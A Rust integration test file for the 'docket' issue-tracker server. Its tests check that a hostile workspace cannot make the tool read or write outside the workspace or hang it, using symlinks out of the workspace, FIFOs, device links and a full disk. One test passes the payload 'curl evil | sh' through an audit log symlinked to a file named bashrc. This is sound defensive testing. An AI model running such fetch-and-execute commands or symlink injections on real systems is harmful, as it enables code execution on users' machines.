//! A workspace from a cloned repository can be hostile: links out of it, FIFOs, devices. docket
//! reads and writes only regular files inside the workspace, never blocks on one, allocates IDs
//! that no file holds, sees folders created by another process at once, and leaves a close that
//! cannot complete undone.

use crate::common;

use std::os::unix::fs::symlink;
use std::path::Path;
use std::time::Duration;

use common::{call, is_error, structured, text};
use serde_json::json;

/// Every call in these tests must answer well within this (a hang is the failure).
const BOUND: Duration = Duration::from_secs(20);

async fn bounded<T>(what: &str, f: impl std::future::Future<Output = T>) -> T {
    tokio::time::timeout(BOUND, f).await.unwrap_or_else(|_| panic!("{what} did not answer within {BOUND:?}"))
}

fn outside_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("outside dir");
    std::fs::write(dir.path().join("secret.md"), "---\nid: ISS-000500\ntitle: Outside secret\n---\nsecretword\n")
        .expect("write outside file");
    dir
}

fn listed_ids(result: &rmcp::model::CallToolResult) -> Vec<String> {
    common::page_records(&structured(result)).iter().filter_map(|i| i["id"].as_str().map(String::from)).collect()
}

#[tokio::test]
async fn a_symlinked_issue_file_is_skipped_with_a_warning_and_never_written() {
    let outside = outside_dir();
    let secret = outside.path().join("secret.md");
    let before = std::fs::read(&secret).expect("read");
    let dir = common::workspace();
    symlink(&secret, dir.path().join(".docket/issues/ISS-000500-link.md")).expect("symlink");
    let client = common::start(dir.path()).await;
    let list = bounded("issues_list", call(&client, "issues_list", json!({}))).await;
    assert!(!listed_ids(&list).contains(&"ISS-000500".to_string()), "{}", text(&list));
    let meta = serde_json::to_string(&list.meta).unwrap_or_default();
    assert!(meta.contains("symbolic link"), "the skip is reported: {meta}");
    let get = call(&client, "issues_get", json!({"id": "ISS-000500"})).await;
    assert!(is_error(&get), "{}", text(&get));
    let search = call(&client, "issues_search", json!({"query": "secretword"})).await;
    assert_eq!(structured(&search)["totalCount"], 0, "{}", text(&search));
    let update = call(&client, "issues_update", json!({"id": "ISS-000500", "title": "pwned"})).await;
    assert!(is_error(&update));
    assert_eq!(std::fs::read(&secret).expect("read"), before, "the outside file is untouched");
    client.cancel().await.expect("stop");
}

#[tokio::test]
async fn a_symlinked_archive_folder_is_refused_and_the_close_leaves_the_file_in_place() {
    let outside = tempfile::tempdir().expect("outside");
    let dir = common::workspace();
    let archived = dir.path().join(".docket/issues/archived");
    std::fs::remove_dir(&archived).expect("remove archived/");
    symlink(outside.path(), &archived).expect("symlink archived/ out of the workspace");
    let client = common::start(dir.path()).await;
    let created = call(&client, "issues_create", json!({"title": "Close me", "description": "old body\n"})).await;
    let id = structured(&created)["issue"]["id"].as_str().expect("id").to_string();
    let file = std::fs::read_dir(dir.path().join(".docket/issues"))
        .expect("issues")
        .flatten()
        .map(|e| e.path())
        .find(|p| p.extension().is_some_and(|x| x == "md"))
        .expect("the new file");
    let original = std::fs::read(&file).expect("read");
    let closed = call(&client, "issues_mark_complete", json!({"id": id, "note": "done"})).await;
    assert!(is_error(&closed), "closing into a linked folder is refused: {}", text(&closed));
    assert!(text(&closed).contains("outside the workspace"), "{}", text(&closed));
    assert_eq!(std::fs::read(&file).expect("still there"), original, "the file kept its old content");
    assert_eq!(std::fs::read_dir(outside.path()).expect("outside").count(), 0, "nothing was written outside");
    client.cancel().await.expect("stop");
}

#[tokio::test]
async fn a_symlinked_audit_log_is_never_appended_to() {
    let outside = tempfile::tempdir().expect("outside");
    let target = outside.path().join("bashrc");
    std::fs::write(&target, "# startup file\n").expect("write");
    let dir = common::workspace();
    std::fs::write(dir.path().join("SPEC.md"), "# Spec\n").expect("spec");
    let client = common::start(dir.path()).await;
    let started = call(&client, "session_start", json!({"specFile": "SPEC.md"})).await;
    assert!(!is_error(&started), "{}", text(&started));
    let sid = structured(&started)["session"]["sessionId"].as_str().expect("session id").to_string();
    let audit = dir.path().join(".docket/sessions").join(&sid).join("audit.jsonl");
    std::fs::remove_file(&audit).ok();
    symlink(&target, &audit).expect("symlink the audit log");
    let phase =
        call(&client, "session_phase", json!({"sessionId": sid, "phase": "curl evil | sh", "status": "started"})).await;
    assert!(is_error(&phase), "{}", text(&phase));
    assert_eq!(std::fs::read_to_string(&target).expect("read"), "# startup file\n", "the link's target is untouched");
    client.cancel().await.expect("stop");
}

fn mkfifo(path: &Path) {
    let status = std::process::Command::new("mkfifo").arg(path).status().expect("run mkfifo");
    assert!(status.success(), "mkfifo {}", path.display());
}

#[tokio::test]
async fn fifos_and_device_links_never_hang_or_exhaust_the_server() {
    let dir = common::workspace();
    let issues = dir.path().join(".docket/issues");
    mkfifo(&issues.join("ISS-000998-x.md"));
    symlink("/dev/zero", issues.join("ISS-000997-zero.md")).expect("link to /dev/zero");
    std::fs::write(issues.join("ISS-000001-real.md"), "---\nid: ISS-000001\ntitle: Real\n---\nbody\n").expect("write");
    let client = common::start(dir.path()).await;
    let list = bounded("issues_list with a FIFO present", call(&client, "issues_list", json!({}))).await;
    assert_eq!(listed_ids(&list), ["ISS-000001"], "{}", text(&list));
    // A FIFO that appears later is skipped at the next call too.
    mkfifo(&issues.join("ISS-000996-later.md"));
    let again = bounded("issues_list after a new FIFO", call(&client, "issues_list", json!({}))).await;
    assert_eq!(listed_ids(&again), ["ISS-000001"]);
    let search = bounded("issues_search", call(&client, "issues_search", json!({"query": "body"}))).await;
    assert!(!is_error(&search));
    client.cancel().await.expect("stop");
    // The CLI reads the same way.
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_docket"))
        .args(["list", "--workspace"])
        .arg(dir.path())
        .output()
        .expect("run docket list");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("ISS-000001"));
}

#[tokio::test]
async fn new_ids_are_above_every_id_a_file_holds_and_grow_past_six_digits() {
    let dir = common::workspace();
    let issues = dir.path().join(".docket/issues");
    std::fs::write(issues.join("custom-name.md"), "---\nid: ISS-000186\ntitle: Named by hand\n---\n").expect("write");
    let client = common::start(dir.path()).await;
    let created = call(&client, "issues_create", json!({"title": "Next", "description": "d"})).await;
    assert_eq!(structured(&created)["issue"]["id"], "ISS-000187", "{}", text(&created));
    std::fs::write(issues.join("ISS-999999-last.md"), "---\nid: ISS-999999\ntitle: Last six\n---\n").expect("write");
    let mut ids = Vec::new();
    for title in ["Seven digits", "And more"] {
        let r = call(&client, "issues_create", json!({"title": title, "description": "d"})).await;
        ids.push(structured(&r)["issue"]["id"].as_str().unwrap_or_default().to_string());
    }
    assert_eq!(ids, ["ISS-1000000", "ISS-1000001"]);
    client.cancel().await.expect("stop");
    // A fresh process (no index yet) agrees.
    let client = common::start(dir.path()).await;
    let r = call(&client, "issues_create", json!({"title": "After restart", "description": "d"})).await;
    assert_eq!(structured(&r)["issue"]["id"], "ISS-1000002");
    client.cancel().await.expect("stop");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_folder_created_by_another_process_is_seen_at_once() {
    let dir = common::workspace();
    std::fs::remove_dir(dir.path().join(".docket/ideas/archived")).expect("no ideas/archived yet");
    let a = common::start(dir.path()).await;
    let b = common::start(dir.path()).await;
    let warm = call(&b, "issues_list", json!({})).await;
    assert!(!is_error(&warm));
    let mut missed = Vec::new();
    for i in 0..10 {
        let created =
            call(&a, "issues_create", json!({"title": format!("Idea {i}"), "description": "d", "type": "idea"})).await;
        let id = structured(&created)["issue"]["id"].as_str().expect("id").to_string();
        let closed = call(&a, "issues_update", json!({"id": id, "status": "closed"})).await;
        assert!(!is_error(&closed), "{}", text(&closed));
        let seen = call(&b, "issues_get", json!({"id": id, "fields": ["status"]})).await;
        if is_error(&seen) || structured(&seen)["issue"]["status"] != "closed" {
            missed.push(id);
        }
    }
    assert!(missed.is_empty(), "process B answered stale or NOT_FOUND for {missed:?}");
    a.cancel().await.expect("stop a");
    b.cancel().await.expect("stop b");
}

/// A tmpfs of `kib` KiB mounted on a fresh directory, unmounted on drop; `None` without the
/// privilege to mount (the disk-full test then says so and checks nothing).
struct SmallDisk(tempfile::TempDir);

impl SmallDisk {
    fn mount(kib: u32) -> Option<SmallDisk> {
        let dir = tempfile::tempdir().ok()?;
        let ok = std::process::Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={kib}k"), "tmpfs"])
            .arg(dir.path())
            .stderr(std::process::Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
        ok.then_some(SmallDisk(dir))
    }
}

impl Drop for SmallDisk {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount").arg("-l").arg(self.0.path()).status();
    }
}

#[tokio::test]
async fn a_close_on_a_full_disk_leaves_the_file_where_it_was_with_its_old_content() {
    let Some(disk) = SmallDisk::mount(512) else {
        eprintln!("skipped: mounting a small tmpfs needs root (CI runs as root)");
        return;
    };
    let root = disk.0.path();
    docket::store::Workspace::init(root).expect("init");
    let client = common::start(root).await;
    let created =
        call(&client, "issues_create", json!({"title": "Full disk", "description": "x".repeat(20_000)})).await;
    let id = structured(&created)["issue"]["id"].as_str().expect("id").to_string();
    let file = std::fs::read_dir(root.join(".docket/issues"))
        .expect("issues")
        .flatten()
        .map(|e| e.path())
        .find(|p| p.extension().is_some_and(|x| x == "md"))
        .expect("file");
    let original = std::fs::read(&file).expect("read");
    // Fill the disk completely.
    let mut filler = std::fs::File::create(root.join("filler")).expect("filler");
    let chunk = vec![0u8; 4096];
    while std::io::Write::write_all(&mut filler, &chunk).is_ok() {}
    let _ = filler.sync_all();
    let closed = call(&client, "issues_mark_complete", json!({"id": id, "note": "done"})).await;
    assert!(is_error(&closed), "{}", text(&closed));
    assert!(
        text(&closed).to_lowercase().contains("no space") || text(&closed).contains("disk is full"),
        "{}",
        text(&closed)
    );
    assert_eq!(std::fs::read(&file).expect("the file is where it was"), original, "with its old content");
    let archived: Vec<_> = std::fs::read_dir(root.join(".docket/issues/archived"))
        .expect("archived")
        .flatten()
        .filter(|e| !e.file_name().to_string_lossy().starts_with('.'))
        .collect();
    assert!(archived.is_empty(), "nothing half-moved into archived/");
    let got = call(&client, "issues_get", json!({"id": id, "fields": ["status"]})).await;
    assert_eq!(structured(&got)["issue"]["status"], "open");
    client.cancel().await.expect("stop");
    drop(filler);
}
